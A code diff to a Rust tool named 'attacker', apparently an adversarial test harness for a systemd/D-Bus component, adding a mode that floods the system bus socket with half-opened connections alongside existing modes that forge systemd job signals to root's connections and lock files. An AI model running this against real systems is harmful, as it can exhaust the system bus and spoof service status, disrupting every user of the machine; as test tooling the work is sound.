@@ -2,10 +2,13 @@
 //!
 //! - `attacker signals`: sends signals that look like systemd's, with wrong and with right bodies, to every connection of
 //!   root on the system bus, as fast as the bus takes them.
+//! - `attacker connections`: opens connections to the system bus and never says who it is.
 //! - `attacker lock DIRECTORY`: holds a lock on all files in there that it can open.
 
 use std::collections::{HashMap, HashSet};
 use std::fs::{self, File};
+use std::io::{ErrorKind, Read, Write};
+use std::os::unix::net::UnixStream;
 use std::path::PathBuf;
 use std::thread::sleep;
 use std::time::{Duration, Instant};
@@ -16,6 +19,7 @@ use zbus::names::{BusName, OwnedUniqueName};
 use zbus::{Message, ObjectPath};
 
 const BUS: &str = "unix:path=/run/dbus/system_bus_socket";
+const BUS_SOCKET: &str = "/run/dbus/system_bus_socket";
 const SYSTEMD: &str = "/org/freedesktop/systemd1";
 const MANAGER: &str = "org.freedesktop.systemd1.Manager";
 /// How often it looks for new victims …
@@ -29,8 +33,9 @@ fn main() -> Result<()> {
     let arguments: Vec<String> = std::env::args().skip(1).collect();
     match arguments.split_first() {
         Some((what, [])) if what == "signals" => zbus::block_on(signals()),
+        Some((what, [])) if what == "connections" => connections(),
         Some((what, [directory])) if what == "lock" => lock(directory),
-        _ => bail!("usage: attacker signals | lock DIRECTORY"),
+        _ => bail!("usage: attacker signals | connections | lock DIRECTORY"),
     }
 }
 
@@ -88,6 +93,26 @@ fn forged(victim: &OwnedUniqueName, job: u32) -> Result<[Message; 2]> {
     let path = ObjectPath::try_from(format!("{SYSTEMD}/job/{job}"))?;
     let end = (job, path, "health-check.target", "failed");
     Ok([signal().build(&("gone",))?, signal().build(&end)?])
+}
+
+/// Opens as many as it may, each again when the bus has had enough of it.
+fn connections() -> Result<()> {
+    let mut open: Vec<UnixStream> = Vec::new();
+    loop {
+        open.retain(is_open);
+        while let Ok(mut stream) = UnixStream::connect(BUS_SOCKET) {
+            // A greeting that is never finished.
+            if stream.write_all(b"\0").is_ok() && stream.set_nonblocking(true).is_ok() {
+                open.push(stream);
+            }
+        }
+        sleep(SOON);
+    }
+}
+
+fn is_open(mut stream: &UnixStream) -> bool {
+    let read = stream.read(&mut [0; 64]);
+    read.is_err_and(|error| error.kind() == ErrorKind::WouldBlock)
 }
 
 /// Opens and locks everything below a directory that it may, again and again.
